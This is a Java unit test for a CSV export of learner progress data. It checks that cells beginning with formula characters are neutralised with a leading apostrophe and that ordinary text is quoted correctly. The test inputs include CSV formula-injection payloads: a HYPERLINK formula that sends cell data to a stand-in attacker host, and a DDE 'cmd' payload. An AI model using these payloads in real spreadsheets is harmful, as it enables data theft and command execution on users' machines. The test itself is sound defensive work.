package io.qualtrack.report.web;

import io.qualtrack.report.cohort.AssessedRow;
import io.qualtrack.report.cohort.EnrolmentRow;
import io.qualtrack.report.cohort.Snapshots;
import io.qualtrack.report.ontrack.OnTrackRules;
import io.qualtrack.report.ontrack.OnTrackThresholds;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.io.StringReader;
import java.time.LocalDate;
import java.time.ZoneOffset;
import java.util.List;

import static io.qualtrack.contract.progress.CriterionProgress.CriterionStatus.MET;
import static io.qualtrack.contract.progress.CriterionProgress.CriterionStatus.NOT_STARTED;
import static org.assertj.core.api.Assertions.assertThat;

class CohortGridCsvTest {

    private static final LocalDate TODAY = Snapshots.START.plusDays(180);
    private final OnTrackRules rules = new OnTrackRules(OnTrackThresholds.DEFAULTS);

    private AssessedRow learner(String learnerId) {
        EnrolmentRow row = EnrolmentRow.of(Snapshots.progress(learnerId, "C", "K",
                TODAY.minusDays(3).atStartOfDay().toInstant(ZoneOffset.UTC), MET, MET, NOT_STARTED, NOT_STARTED));
        return new AssessedRow(row, rules.assess(row.onTrackFacts(), TODAY));
    }

    private static CSVRecord onlyRow(String csv) throws IOException {
        try (CSVParser parser = CSVFormat.RFC4180.builder().setHeader().setSkipHeaderRecord(true).get().parse(new StringReader(csv))) {
            List<CSVRecord> records = parser.getRecords();
            assertThat(records).hasSize(1);
            return records.getFirst();
        }
    }

    @Test
    void textASpreadsheetWouldRunAsAFormulaIsWrittenAsTextWithALeadingApostrophe() throws IOException {
        for (String formula : new String[]{"=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")", "+1+cmd|' /C calc'!A0",
                "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"}) {
            assertThat(onlyRow(CohortGridCsv.write(List.of(learner(formula)))).get("learner_id")).as(formula).isEqualTo("'" + formula);
        }
    }

    @Test
    void ordinaryTextAndTheFiguresAreWrittenAsTheyAreQuotedWhereCsvNeedsIt() throws IOException {
        String csv = CohortGridCsv.write(List.of(learner("O'Brien, \"Pat\" - L1")));

        CSVRecord row = onlyRow(csv);
        assertThat(row.get("learner_id")).isEqualTo("O'Brien, \"Pat\" - L1");
        assertThat(row.get("qualification")).isEqualTo("Q1");
        assertThat(row.get("percent_met")).isEqualTo("50.0");
        assertThat(row.get("days_since_last_activity")).isEqualTo("3");
        assertThat(row.get("U1 percent_met")).isEqualTo("50.0");
        assertThat(csv).startsWith("learner_id,qualification,rag,percent_met,percent_expected,days_since_last_activity,U1 percent_met,reasons\r\n");
    }
}
